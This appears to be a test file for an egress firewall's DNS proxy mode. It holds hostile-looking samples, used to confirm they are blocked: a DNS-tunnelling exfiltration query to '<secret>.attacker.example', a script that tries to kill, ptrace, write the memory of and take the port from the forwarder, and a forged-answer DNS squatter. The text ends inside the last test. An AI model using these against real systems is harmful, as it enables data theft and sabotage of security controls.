"""dns.mode proxy with real packets: an authoritative server in the world namespace, the forwarder
(`egressguard dns`, dropped to its own uid with CAP_NET_ADMIN only) in the pod, and probes as the
confined uid 1000 with the exempt uid 1001 as the control. iptables back end (learned sets are ipsets
with timeouts); tests/test_nftables_dns_proxy.py runs the same tests on nftables."""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import select
import selectors
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dns.message
import dns.rcode
import dns.rrset
import pytest
from egtraffic import FAST, UPLOAD, applied, cut_midway, policy, reached, refused_fast, uploaded
from mesh import ISTIO
from test_traffic_mesh import through_relay
from wire import WireCapture

from egressguard.lab import CONFINED, EXEMPT, RESOLVER_V4, RESOLVER_V6, Lab, _sh
from egressguard.ruleset import learned_entries

pytestmark = pytest.mark.netns

# Not eth0 (tests/test_suite_guards.py), and a second link: WILD (203.0.113.12) is routed out of it,
# so a learned address must open the way by whichever interface the route picks. The nftables twin
# names both interfaces differently.
LAB_TOPOLOGIES = [{"iface": "tun0", "second_iface": "veth1a2b3c4d"}]

AUTH_V4, AUTH_V6 = "203.0.113.53", "2001:db8:2::53"  # the test's authoritative server (world, lo)
FORWARDER_UID = 1002
A, B, WILD, APEX = "203.0.113.10", "203.0.113.11", "203.0.113.12", "203.0.113.5"
A6 = "2001:db8:2::10"
TTL_S = 3  # dns.ttl min = max: every learned address lives exactly this long
PROXY = policy(
    exempt={"uids": [EXEMPT, FORWARDER_UID]},
    dns={"mode": "proxy", "forwarder_uid": FORWARDER_UID, "resolvers": [AUTH_V4], "ttl": {"min": TTL_S, "max": TTL_S}},
    allow=[{"host": "rotate.test"}, {"host": "*.example.com", "ports": [22]}],
)
RECORDS: dict[str, dict[str, Any]] = {
    "rotate.test": {"A": [A], "AAAA": [A6], "ttl": 1},
    "*.example.com": {"A": [WILD], "ttl": 60},
    "example.com": {"A": [APEX], "ttl": 60},
}


def _auth_server(records_path: str, log_path: str, ready_fd: int) -> None:
    """A UDP authoritative server (dnspython): answers from `records_path` (re-read per query, a
    `*.` key answers every name below it) and appends every name asked to `log_path`."""
    sel = selectors.DefaultSelector()
    for addr in (AUTH_V4, AUTH_V6):
        s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((addr, 53))
        sel.register(s, selectors.EVENT_READ)
    os.write(ready_fd, b"ready")
    os.close(ready_fd)
    while True:
        for key, _ in sel.select():
            sock: socket.socket = key.fileobj  # type: ignore[assignment]
            data, peer = sock.recvfrom(4096)
            try:
                q = dns.message.from_wire(data)
                name = q.question[0].name.to_text(omit_final_dot=True).lower()
                rdtype = dns.rdatatype.to_text(q.question[0].rdtype)
            except Exception:  # noqa: BLE001
                continue
            with open(log_path, "a") as fh:
                fh.write(f"{name} {rdtype}\n")
            records = json.loads(Path(records_path).read_text())
            rec = records.get(name) or next(
                (v for k, v in records.items() if k.startswith("*.") and name.endswith(k[1:])), None)
            resp = dns.message.make_response(q)
            resp.flags |= dns.flags.AA
            if rec is None:
                resp.set_rcode(dns.rcode.NXDOMAIN)
            elif rec.get(rdtype):
                resp.answer.append(dns.rrset.from_text(name + ".", rec.get("ttl", 60), "IN", rdtype, *rec[rdtype]))
            sock.sendto(resp.to_wire(), peer)


class World:
    """The authoritative server's records and the log of what reached it."""

    def __init__(self, lab: Lab) -> None:
        self.records = lab.workdir / "auth-records.json"
        self.log = lab.workdir / "auth-queries.log"
        self.set(RECORDS)
        self.log.write_text("")
        for addr in (f"{AUTH_V4}/32", f"{AUTH_V6}/128"):
            _sh("ip", "-n", lab.world, "addr", "add", addr, "dev", "lo", *(("nodad",) if ":" in addr else ()))
        lab._fork_server(lab.world, "authoritative DNS server", _auth_server, str(self.records), str(self.log))

    def set(self, records: dict[str, Any]) -> None:
        tmp = self.records.with_suffix(".tmp")
        tmp.write_text(json.dumps(records))
        tmp.replace(self.records)

    def asked(self) -> list[str]:
        return [line.split()[0] for line in self.log.read_text().splitlines()]


class Forwarder:
    """`egressguard dns` in the pod, started as root (it drops to FORWARDER_UID keeping CAP_NET_ADMIN)."""

    def __init__(self, lab: Lab, policy_path: Path) -> None:
        self.log = lab.workdir / f"forwarder-{secrets.token_hex(3)}.log"
        r, w = os.pipe()
        argv = ["ip", "netns", "exec", lab.pod, sys.executable, "-m", "egressguard", "--log-format", "json", "dns",
                "--policy", str(policy_path), "--ready-fd", str(w)]
        with open(self.log, "w") as err:
            self.proc = subprocess.Popen(argv, pass_fds=(w,), stderr=err, stdout=subprocess.DEVNULL)
        os.close(w)
        try:
            ready, _, _ = select.select([r], [], [], 30)
            said = os.read(r, 16) if ready else b""
        finally:
            os.close(r)
        if said != b"1":  # sidecar.report_ready
            self.stop()
            raise RuntimeError(f"forwarder did not start: {self.log.read_text()[-2000:]}")

    def stop(self, sig: int = signal.SIGTERM) -> None:
        if self.proc.poll() is None:
            self.proc.send_signal(sig)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()

    def events(self, name: str) -> list[dict[str, Any]]:
        out = []
        for line in self.log.read_text().splitlines():
            try:
                ev = json.loads(line)
            except ValueError:
                continue
            if ev.get("event") == name:
                out.append(ev)
        return out


@pytest.fixture(scope="module")
def world(module_lab: Lab) -> World:
    w = World(module_lab)
    applied(module_lab, PROXY)
    return w


@pytest.fixture
def forwarder(module_lab: Lab, world: World) -> Iterator[Forwarder]:
    world.set(RECORDS)
    fwd = Forwarder(module_lab, module_lab.write_policy(PROXY))
    try:
        yield fwd
    finally:
        fwd.stop()


def learned(lab: Lab, host: str, pol: dict[str, Any] = PROXY) -> dict[str, int]:
    """Address -> seconds left, in the learned sets of `host`'s entry in `pol`, as the kernel lists them."""
    entry = next(e for e in learned_entries(_policy(pol)) if e.host == host)
    out = {}
    for name in entry.sets.values():
        if os.environ["EGRESSGUARD_BACKEND"] == "nftables":
            listed = json.loads(lab.in_pod("nft", "-j", "list", "set", "inet", "egressguard", name, check=True).stdout)
            for obj in listed["nftables"]:
                for e in obj.get("set", {}).get("elem", []):
                    out[e["elem"]["val"]] = e["elem"].get("expires", 0)
        else:  # `ipset list` prints members as "ADDRESS timeout SECONDS"
            for line in lab.in_pod("ipset", "list", name, check=True).stdout.splitlines():
                found = re.fullmatch(r"(\S+) timeout (\d+)", line.strip())
                if found:
                    out[found[1]] = int(found[2])
    return out


def _policy(pol: dict[str, Any] = PROXY) -> Any:
    from egressguard import policy as policy_mod  # noqa: PLC0415

    return policy_mod.validate(pol)


def wait_expired(lab: Lab, host: str, addr: str, pol: dict[str, Any] = PROXY) -> None:
    """Until the kernel has dropped `addr` from `host`'s set (its timeout ran out): a bounded poll of
    kernel state, not a sleep."""
    for _ in range(200):
        if addr not in learned(lab, host, pol):
            return
        time.sleep(0.05)
    raise AssertionError(f"{addr} still in {host}'s set after 10 s")


def resolve(lab: Lab, name: str, server: str = RESOLVER_V4, uid: int = CONFINED, tcp: bool = False,
            rdtype: str = "A") -> tuple[str, list[str]]:
    res = lab.dns(name, server, uid=uid, tcp=tcp, rdtype=rdtype, timeout=FAST + 1)
    return (res.detail if res.ok else res.outcome), list(res.answer or [])


TRANSPORTS = pytest.mark.parametrize("server,tcp", [(RESOLVER_V4, False), (RESOLVER_V6, True)], ids=["udp4", "tcp6"])


@TRANSPORTS
def test_learned_address_follows_the_name_as_it_rotates(module_lab: Lab, world: World, forwarder: Forwarder,
                                                        server: str, tcp: bool) -> None:
    lab = module_lab
    wait_expired(lab, "rotate.test", A)  # nothing left from an earlier test
    assert not reached(lab.tcp(A, 22), A), "A is reachable before any answer was given"
    assert reached(lab.tcp(A, 22, uid=EXEMPT), A), "control: the exempt uid reaches A"
    assert resolve(lab, "rotate.test", server, tcp=tcp) == ("NOERROR", [A])
    assert reached(lab.tcp(A, 22), A), "the connection right after the answer was refused"
    world.set({**RECORDS, "rotate.test": {"A": [B], "ttl": 1}})
    wait_expired(lab, "rotate.test", A)
    assert not reached(lab.tcp(A, 22), A), "A is still reachable after its TTL"
    assert reached(lab.tcp(A, 22, uid=EXEMPT), A), "control: A itself still answers"
    assert resolve(lab, "rotate.test", server, tcp=tcp) == ("NOERROR", [B])
    assert reached(lab.tcp(B, 22), B)
    assert not reached(lab.tcp(A, 22), A), "the old address came back with the new answer"


def test_ipv6_answers_are_learned_too(module_lab: Lab, forwarder: Forwarder) -> None:
    lab = module_lab
    wait_expired(lab, "rotate.test", A6)
    assert not reached(lab.tcp(A6, 22), A6)
    assert reached(lab.tcp(A6, 22, uid=EXEMPT), A6), "control"
    assert resolve(lab, "rotate.test", RESOLVER_V6, rdtype="AAAA") == ("NOERROR", [A6])
    assert reached(lab.tcp(A6, 22), A6)


def test_each_learned_address_is_an_event_with_name_ttl_and_entry(module_lab: Lab, forwarder: Forwarder) -> None:
    assert resolve(module_lab, "rotate.test")[0] == "NOERROR"
    forwarder.stop()  # flushes its log
    events = [e for e in forwarder.events("dns_learned") if e["name"] == "rotate.test"]
    assert events and {(e["address"], e["ttl"], e["entry"]) for e in events} == {(A, TTL_S, "allow[0]")}


def test_wildcard_admits_names_below_it_and_not_the_domain_itself(module_lab: Lab, world: World,
                                                                   forwarder: Forwarder) -> None:
    lab = module_lab
    before = len(world.asked())
    assert resolve(lab, "a.b.example.com") == ("NOERROR", [WILD])
    assert reached(lab.tcp(WILD, 22), WILD)
    assert resolve(lab, "example.com") == ("REFUSED", [])
    asked = world.asked()[before:]
    assert "a.b.example.com" in asked, "control: the allowed name reached the server"
    assert "example.com" not in asked, "the refused name was forwarded"
    assert not reached(lab.tcp(APEX, 22), APEX)
    assert resolve(lab, "example.com", uid=EXEMPT, server=AUTH_V4) == ("NOERROR", [APEX]), "control: the name exists"
    assert not reached(lab.tcp(WILD, 443), WILD), "the wildcard entry's ports still apply"


@TRANSPORTS
def test_tunnelling_query_is_refused_and_never_leaves_the_pod(module_lab: Lab, world: World, forwarder: Forwarder,
                                                              server: str, tcp: bool) -> None:
    lab = module_lab
    secret, control = secrets.token_hex(12), secrets.token_hex(12)
    with WireCapture(lab) as cap:
        dig = lab.exec_as(["dig", "+tries=1", "+time=2", *(["+tcp"] if tcp else []), f"@{server}",
                           f"{secret}.attacker.example", "TXT"])
        ctl = lab.exec_as(["dig", "+tries=1", "+time=2", f"@{AUTH_V4}",  # (the test's server: UDP only)
                           f"{control}.attacker.example", "TXT"], uid=EXEMPT)
        cap.wait_for(control.encode())
        cap.barrier(lab)
        leaked = cap.frames_with(secret.encode())
        seen_control = cap.frames_with(control.encode())
    assert "status: REFUSED" in str(dig.answer), dig
    assert not leaked, f"the query left the pod: {leaked[:3]}"
    assert seen_control, f"control: the exempt uid's query reached the world ({ctl})"
    asked = world.asked()
    assert f"{control}.attacker.example" in asked and f"{secret}.attacker.example" not in asked


def test_killed_forwarder_refuses_dns_learns_nothing_and_keeps_connections(module_lab: Lab, world: World,
                                                                           forwarder: Forwarder) -> None:
    lab = module_lab
    echo_port = 7777
    lab.world_echo(echo_port)
    assert resolve(lab, "rotate.test") == ("NOERROR", [A])
    held = lab.hold_tcp(A, echo_port)
    try:
        assert held.opened.ok, held.opened
        assert held.exchange("before").ok
        forwarder.stop(signal.SIGKILL)
        world.set({**RECORDS, "rotate.test": {"A": [B], "ttl": 1}})
        before = len(world.asked())
        outcome, _ = resolve(lab, "rotate.test")
        assert outcome in ("refused", "timeout"), f"DNS answered without the forwarder: {outcome}"
        assert resolve(lab, "rotate.test", server=AUTH_V4, uid=EXEMPT) == ("NOERROR", [B]), "control"
        assert world.asked()[before:] == ["rotate.test"], "only the exempt control's query reached the server"
        assert B not in learned(lab, "rotate.test"), "an address was learned without the forwarder"
        assert not reached(lab.tcp(B, 22), B)
        wait_expired(lab, "rotate.test", A)
        assert held.exchange("after expiry").ok, "the open connection was cut when its address expired"
    finally:
        held.close()


def test_status_lists_learned_addresses_with_time_left(module_lab: Lab, forwarder: Forwarder) -> None:
    assert resolve(module_lab, "rotate.test") == ("NOERROR", [A])
    done = module_lab.egressguard("status", "--json")
    assert done.returncode == 0, done.stderr
    rows = [r for r in json.loads(done.stdout)["learned"] if r["address"] == A]
    assert rows and rows[0]["host"] == "rotate.test" and 0 < rows[0]["expires_s"] <= TTL_S


def test_probe_checks_the_forwarder_answers(module_lab: Lab, world: World) -> None:
    lab = module_lab
    argv = ["probe", "--status-file", str(lab.status_file)]
    path = lab.write_policy(PROXY)
    fwd = Forwarder(lab, path)
    try:
        with_forwarder = lab.probe("egressguard", argv, uid=CONFINED, timeout=20)
        check = lab.egressguard("dns", "--check", "--policy", str(path))  # the sidecar's startup probe
    finally:
        fwd.stop()
    without = lab.probe("egressguard", argv, uid=CONFINED, timeout=20)
    check_without = lab.egressguard("dns", "--check", "--policy", str(path))
    assert check.returncode == 0 and check_without.returncode == 6, (check.stderr, check_without.stderr)
    # (the probe child keeps a full bounding set, which probe reports too: only the DNS verdict is read here)
    assert "dns.mode proxy" not in with_forwarder.answer["stderr"], with_forwarder.answer
    assert without.answer["exit"] == 6 and "the DNS forwarder did not answer" in without.answer["stderr"], without.answer


def test_forwarder_runs_as_its_uid_with_net_admin_only(module_lab: Lab, forwarder: Forwarder) -> None:
    pid = forwarder.proc.pid  # `ip netns exec` execs the command: the same process
    fields = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines() if ":" in line)
    assert fields["Uid"].split() == [str(FORWARDER_UID)] * 4
    for key in ("CapEff", "CapPrm", "CapAmb", "CapBnd"):
        assert int(fields[key], 16) == 1 << 12, (key, fields[key])
    assert fields["NoNewPrivs"].strip() == "1"


def test_reapply_keeps_what_was_learned_and_verify_passes(module_lab: Lab, forwarder: Forwarder) -> None:
    lab = module_lab
    assert resolve(lab, "rotate.test") == ("NOERROR", [A])
    assert A in learned(lab, "rotate.test")
    applied(lab, PROXY)
    assert A in learned(lab, "rotate.test"), "a re-apply dropped a learned address"
    assert reached(lab.tcp(A, 22), A)
    done = lab.egressguard("verify", "--policy", str(lab.write_policy(PROXY)))
    assert done.returncode == 0, done.stderr



KEPT, PORTED, GONE = "203.0.113.20", "203.0.113.22", "203.0.113.21"  # (world addresses of the re-apply tests)
ECHO_PORT, OTHER_ECHO_PORT = 7778, 7779
# PROXY plus an entry on another port (`ported.test`), then also one a re-apply removes (`gone.test`,
# on ECHO_PORT, which rotate.test's entry admits too). Learned addresses live up to 60 s here, so
# rotate.test's is still learned when the re-apply comes; ported.test's lives TTL_S s.
NARROW = {**PROXY, "dns": {**PROXY["dns"], "ttl": {"min": TTL_S, "max": 60}},
          "allow": [*PROXY["allow"], {"host": "ported.test", "ports": [OTHER_ECHO_PORT]}]}
WIDER = {**NARROW, "allow": [*NARROW["allow"], {"host": "gone.test", "ports": [ECHO_PORT]}]}


@pytest.fixture(scope="module")
def echo(module_lab: Lab, world: World) -> dict[int, Path]:
    """TCP echo servers on every world address (KEPT, PORTED and GONE added) at ECHO_PORT and
    OTHER_ECHO_PORT: port -> its log, what arrived."""
    for addr in (KEPT, PORTED, GONE):
        _sh("ip", "-n", module_lab.world, "addr", "add", f"{addr}/32", "dev", "lo")
    return {port: module_lab.world_echo(port) for port in (ECHO_PORT, OTHER_ECHO_PORT)}


def test_reapply_that_removes_an_entry_cuts_its_open_connections_and_keeps_the_others(
        module_lab: Lab, world: World, echo: dict[int, Path]) -> None:
    """A connection a learned address let through carries the mark that keeps it open after the
    address expires. A re-apply without its entry clears that mark bit (its next packet is
    judged afresh and refused); connections of entries the new policy keeps go on: one whose
    address is still learned on the same port, and one whose address expired on a port the removed
    entry never allowed. The same policy again cuts nothing; removing that last entry cuts it."""
    lab = module_lab
    world.set({**RECORDS, "rotate.test": {"A": [KEPT], "ttl": 60}, "gone.test": {"A": [GONE], "ttl": 60},
               "ported.test": {"A": [PORTED], "ttl": 1}})
    applied(lab, WIDER)
    fwd = Forwarder(lab, lab.write_policy(WIDER, "wider.yaml"))
    held: dict[str, Any] = {}
    try:
        for name, addr in (("rotate.test", KEPT), ("gone.test", GONE), ("ported.test", PORTED)):
            assert resolve(lab, name) == ("NOERROR", [addr])
        held = {"kept": lab.hold_tcp(KEPT, ECHO_PORT), "gone": lab.hold_tcp(GONE, ECHO_PORT),
                "ported": lab.hold_tcp(PORTED, OTHER_ECHO_PORT)}
        for what, conn in held.items():
            assert conn.exchange(f"{what}-before").ok, what
        wait_expired(lab, "ported.test", PORTED, WIDER)  # from now on only its mark keeps it open
        done = applied(lab, NARROW)  # gone.test's entry and its learned sets go away
        assert '"learned_connections_cut"' in done.stderr, done.stderr[-2000:]
        assert held["kept"].exchange("kept-after").ok, "the kept entry's connection was cut"
        assert held["ported"].exchange("ported-after").ok, "a kept entry's connection on another port was cut"
        assert not held["gone"].exchange("gone-after", timeout=FAST).ok, "the removed entry's connection is open"
        done = applied(lab, NARROW)  # the same policy again
        assert "learned_connections_cut" not in done.stderr
        assert held["kept"].exchange("kept-again").ok and held["ported"].exchange("ported-again").ok, \
            "re-applying the same policy cut a connection"
        applied(lab, PROXY)  # ported.test's entry goes too: its connection, kept open by the mark alone, is cut
        assert not held["ported"].exchange("ported-removed", timeout=FAST).ok
        assert held["kept"].exchange("kept-last").ok
        arrived, arrived_other = echo[ECHO_PORT].read_text(), echo[OTHER_ECHO_PORT].read_text()
        for line in ("kept-after", "kept-again", "kept-last", "gone-before"):
            assert line in arrived, f"control: {line} reached the server"
        for line in ("ported-before", "ported-after", "ported-again"):
            assert line in arrived_other, f"control: {line} reached the server"
        assert "gone-after" not in arrived and "ported-removed" not in arrived_other, (arrived, arrived_other)
    finally:
        for conn in held.values():
            conn.close()
        fwd.stop()
        world.set(RECORDS)
        applied(lab, PROXY)


SINK_PORT = 7780  # a world sink (Lab.world_sink) on every world address
# NARROW plus gone.test on the sink's port: the entry a re-apply to NARROW removes.
CLOSING = {**NARROW, "allow": [*NARROW["allow"], {"host": "gone.test", "ports": [SINK_PORT]}]}


@pytest.fixture(scope="module")
def sink(module_lab: Lab, echo: dict[int, Path]) -> Path:  # echo: GONE is a world address
    return module_lab.world_sink(SINK_PORT)


def test_what_a_process_wrote_before_closing_stops_when_a_reapply_cuts_its_learned_connection(
        module_lab: Lab, world: World, sink: Path) -> None:
    """The cut clears the learned bit of the connection's conntrack mark and keeps the entry, whose
    confined bit sends what the kernel sends after close() (no uid on it) through the new rules:
    most of the upload waits in the pod when the re-apply removes gone.test, and never arrives. The
    control: the same upload with the same policy re-applied instead (nothing cut) arrives whole."""
    lab = module_lab
    world.set({**RECORDS, "gone.test": {"A": [GONE], "ttl": 60}})
    applied(lab, CLOSING)
    fwd = Forwarder(lab, lab.write_policy(CLOSING, "closing.yaml"))
    got: dict[str, str] = {}
    try:
        for what, then in (("kept", CLOSING), ("cut", NARROW)):
            applied(lab, CLOSING)
            assert resolve(lab, "gone.test") == ("NOERROR", [GONE])
            got[what] = uploaded(lab, sink, GONE, SINK_PORT, CONFINED, meanwhile=lambda p=then: applied(lab, p))
    finally:
        fwd.stop()
        world.set(RECORDS)
        applied(lab, PROXY)
    assert got["kept"] == f"{UPLOAD} eof", got
    assert cut_midway(got["cut"]), got


def test_reapplying_the_same_policy_keeps_a_connection_whose_address_expired(
        module_lab: Lab, world: World, forwarder: Forwarder, echo: dict[int, Path]) -> None:
    """The mark alone keeps it open (its address is gone from the set): the same policy again cuts nothing."""
    lab = module_lab
    assert resolve(lab, "rotate.test") == ("NOERROR", [A])
    held = lab.hold_tcp(A, ECHO_PORT)
    try:
        assert held.exchange("expiring-before").ok
        wait_expired(lab, "rotate.test", A)
        applied(lab, PROXY)
        assert held.exchange("expired-after-reapply").ok, "a re-apply of the same policy cut the connection"
        assert "expired-after-reapply" in echo[ECHO_PORT].read_text()
    finally:
        held.close()


# A process in the pod that binds the forwarder's port (UDP and TCP, 127.0.0.1 and ::1) while the
# forwarder is down, and answers every query it is handed with SQUAT_ADDR. It prints one JSON line
# when listening, then one per query: what it received and whether its answer could be sent.
# System python3 (raw DNS bytes): uid 1000 may not read the test's virtualenv.
SQUAT_ADDR = "203.0.113.66"
_SQUATTER = r"""
import json, select, socket, struct, sys
port = int(sys.argv[1])
answer_ip = socket.inet_aton(sys.argv[2])
socks = []
for fam, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    u = socket.socket(fam, socket.SOCK_DGRAM); u.bind((host, port)); socks.append(u)
    t = socket.socket(fam, socket.SOCK_STREAM); t.bind((host, port)); t.listen(8); socks.append(t)
def answer(q):
    qd = q[12:]
    end = qd.index(b"\0") + 5
    return q[:2] + b"\x81\x80" + struct.pack("!HHHH", 1, 1, 0, 0) + qd[:end] + \
        b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + answer_ip
print(json.dumps({"listening": True}), flush=True)
while True:
    for s in select.select(socks, [], [])[0]:
        try:
            if s.type == socket.SOCK_DGRAM:
                q, peer = s.recvfrom(4096)
                s.sendto(answer(q), peer)
            else:
                c, peer = s.accept()
                c.settimeout(2)
                n = struct.unpack("!H", c.recv(2))[0]
                q = c.recv(n)
                r = answer(q)
                c.sendall(struct.pack("!H", len(r)) + r)
            print(json.dumps({"received": len(q), "sent": "ok"}), flush=True)
        except OSError as exc:
            print(json.dumps({"received": len(q), "sent": type(exc).__name__}), flush=True)
"""


@contextlib.contextmanager
def squatter(lab: Lab, uid: int, port: int) -> Iterator[list[dict[str, Any]]]:
    """The squatter running as `uid` in the pod; yields the list its report lines are read into on exit."""
    proc = subprocess.Popen(["ip", "netns", "exec", lab.pod, "setpriv", "--reuid", str(uid), "--regid", str(uid),
                             "--clear-groups", "/usr/bin/python3", "-c", _SQUATTER, str(port), SQUAT_ADDR],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    report: list[dict[str, Any]] = []
    try:
        assert proc.stdout is not None
        first = proc.stdout.readline()  # blocks until it listens (or ends)
        assert first.strip() == '{"listening": true}', (first, proc.stderr.read() if proc.poll() is not None else "")
        yield report
    finally:
        proc.kill()
        out, _ = proc.communicate(timeout=10)
        report += [json.loads(line) for line in out.splitlines() if line.strip()]


@TRANSPORTS
def test_a_confined_process_on_the_forwarders_port_answers_no_one(module_lab: Lab, world: World,
                                                                   server: str, tcp: bool) -> None:
    """While the forwarder is down a confined process binds its port and is handed another confined
    process's query (UDP; over TCP it cannot even complete the handshake): its answer never arrives.
    Control: the same squatter as the exempt uid is answered through the same redirect. Then the
    forwarder starts again and answers."""
    lab = module_lab
    port = _policy().dns.forwarder_port
    with squatter(lab, EXEMPT, port) as control:
        answered = resolve(lab, "rotate.test", server, tcp=tcp)
    assert answered == ("NOERROR", [SQUAT_ADDR]), f"control: the exempt squatter's answer arrived ({answered}, {control})"
    with squatter(lab, CONFINED, port) as report:
        outcome = resolve(lab, "rotate.test", server, tcp=tcp)
    assert outcome[0] == "timeout", f"the confined squatter's answer arrived: {outcome} ({report})"
    if tcp:  # its SYN-ACK is sent from the port as well (the listener's): not even a connection
        assert report == [], f"the squatter accepted a connection: {report}"
    else:  # the query is handed over; the answer is dropped as it is sent
        assert report and all(r["received"] and r["sent"] == "PermissionError" for r in report), report
    assert SQUAT_ADDR not in learned(lab, "rotate.test")
    fwd = Forwarder(lab, lab.write_policy(PROXY))
    try:
        assert resolve(lab, "rotate.test", server, tcp=tcp) == ("NOERROR", [A]), "the restarted forwarder answers"
    finally:
        fwd.stop()


# The command `egressguard run` starts (uid 1000, no capability) attacks the forwarder it started
# first: signal, trace, write its memory, take its port; then asks DNS through it. System python3:
# the command may not read the test's virtualenv.
_ATTACK = r"""
import ctypes, errno, json, os, signal, socket, struct, sys
marker = sys.argv[1].encode()
def cmdline(p):
    try:
        return open(f"/proc/{p}/cmdline", "rb").read()
    except OSError:  # a process of the machine that ended since the listing
        return b""
pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and b"dns\0" in cmdline(p) and marker in cmdline(p)]
out = {"pids": pids, "uid": os.getuid()}
pid = pids[0]
def attempt(name, fn):
    try:
        fn()
        out[name] = "done"
    except OSError as exc:
        out[name] = errno.errorcode.get(exc.errno, str(exc.errno))
attempt("kill", lambda: os.kill(pid, signal.SIGKILL))
attempt("stop", lambda: os.kill(pid, signal.SIGSTOP))
attempt("killpg", lambda: os.killpg(os.getpgid(pid), signal.SIGKILL))
libc = ctypes.CDLL(None, use_errno=True)
def ptrace():
    if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
attempt("ptrace", ptrace)
def seize():
    if libc.ptrace(0x4206, pid, 0, 0) != 0:  # PTRACE_SEIZE
        raise OSError(ctypes.get_errno(), "ptrace")
attempt("ptrace_seize", seize)
attempt("mem", lambda: open(f"/proc/{pid}/mem", "wb").close())
for kind, name in ((socket.SOCK_DGRAM, "bind_udp"), (socket.SOCK_STREAM, "bind_tcp")):
    def bind(kind=kind):
        s = socket.socket(socket.AF_INET, kind)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind(("127.0.0.1", 1053))
    attempt(name, bind)
q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + b"\x06rotate\x04test\x00" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(q, ("198.51.100.53", 53))
r = s.recv(512)
out["dns_rcode"], out["dns_answers"] = r[3] & 0xF, struct.unpack("!H", r[6:8])[0]
out["alive"] = os.path.exists(f"/proc/{pid}") and open(f"/proc/{pid}/stat").read().split()[2] != "T"
out["status"] = {k: v.strip() for k, v in (line.split(":", 1) for line in open(f"/proc/{pid}/status"))
                 if k in ("Uid", "CapEff", "NoNewPrivs")}
print(json.dumps(out))
"""


def test_run_starts_the_forwarder_and_the_command_cannot_signal_trace_or_replace_it(module_lab: Lab, world: World) -> None:
    lab = module_lab
    path = lab.write_policy(PROXY, f"run-{secrets.token_hex(3)}.yaml")
    stdout, stderr = lab.workdir / "run.out", lab.workdir / "run.err"
    env = {**os.environ, "EGRESSGUARD_STATUS": str(lab.status_file)}
    with open(stdout, "w") as out_fh, open(stderr, "w") as err_fh:  # files: the forwarder outlives the command
        code = subprocess.run(["ip", "netns", "exec", lab.pod, sys.executable, "-m", "egressguard", "run", "--policy",
                               str(path), "--user", str(CONFINED), "--", "/usr/bin/python3", "-c", _ATTACK, path.name],
                              stdout=out_fh, stderr=err_fh, env=env, timeout=60).returncode
    pids: list[int] = []
    try:
        assert code == 0, stderr.read_text()[-2000:]
        out = json.loads(stdout.read_text().strip().splitlines()[-1])
        pids = out["pids"]
        assert len(pids) == 1 and out["uid"] == CONFINED
        st = out["status"]
        assert st["Uid"].split() == [str(FORWARDER_UID)] * 4 and st["CapEff"] == "0000000000001000", st
        assert st["NoNewPrivs"] == "1", st
        for attack in ("kill", "stop", "killpg", "ptrace", "ptrace_seize"):
            assert out[attack] == "EPERM", (attack, out)
        assert out["mem"] == "EACCES", out
        assert out["bind_udp"] == "EADDRINUSE" and out["bind_tcp"] == "EADDRINUSE", out
        assert out["alive"] and (out["dns_rcode"], out["dns_answers"]) == (0, 1), out
        for _ in range(100):  # it ends with the command (a pidfd of it): a bounded wait for that
            if not _forwarders(path.name):
                break
            time.sleep(0.05)
        assert not _forwarders(path.name), "the forwarder outlived the command"
    finally:
        for pid in pids:  # the forwarder this test's `run` started
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)


def _forwarders(marker: str) -> list[int]:
    """Pids of `egressguard dns` processes whose command line names `marker` (this test's policy file)."""
    found = []
    for p in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{p}/cmdline").read_bytes() if p.isdigit() else b""
        except OSError:
            continue
        if b"egressguard\0dns\0" in cmdline and marker.encode() in cmdline:
            found.append(int(p))
    return found


def test_a_restarted_forwarder_keeps_what_the_kernel_learned(module_lab: Lab, world: World) -> None:
    lab = module_lab
    world.set({**RECORDS, "rotate.test": {"A": [A], "ttl": 60}})  # clamped to TTL_S: the kernel keeps it TTL_S s
    first = Forwarder(lab, lab.write_policy(PROXY))
    try:
        assert resolve(lab, "rotate.test") == ("NOERROR", [A])
    finally:
        first.stop()
    second = Forwarder(lab, lab.write_policy(PROXY))
    try:
        assert A in learned(lab, "rotate.test")
        assert reached(lab.tcp(A, 22), A), "the address learned before the restart was refused"
    finally:
        second.stop()


def test_through_a_mesh_a_learned_address_is_judged_by_where_the_connection_was_addressed(
        module_lab: Lab, forwarder: Forwarder) -> None:
    """An Istio-shaped nat redirect sends the agent's TCP to a relay on loopback. nftables looks
    the learned set up by the original destination: the learned address passes through the relay.
    ipset reads the packet's destination (the relay's): on iptables the redirected connection is
    refused before the learned sets (`dnat-set`) and reaches neither relay nor world."""
    lab = module_lab
    assert resolve(lab, "rotate.test") == ("NOERROR", [A])
    assert reached(lab.tcp(A, 22), A), "control: without the mesh the learned address passes"
    relay_log = lab.start_relay(ISTIO.uid, ISTIO.port)
    ISTIO.install(lab)
    try:
        assert resolve(lab, "rotate.test") == ("NOERROR", [A]), "DNS still goes to the forwarder"
        before = _refused_by(lab, "dnat-set")
        with WireCapture(lab) as cap:
            res = lab.tcp(A, 22, timeout=FAST)
            cap.barrier(lab)
            reached_world = cap.frames_with(lambda f: f.proto == 6 and f.dst == A and f.dport == 22)
        if os.environ["EGRESSGUARD_BACKEND"] == "nftables":
            assert through_relay(res, ISTIO.uid, A, 22), res.answer
        else:
            assert refused_fast(res), res
            assert not reached_world and relay_log.read_text() == "", "a redirected connection got out"
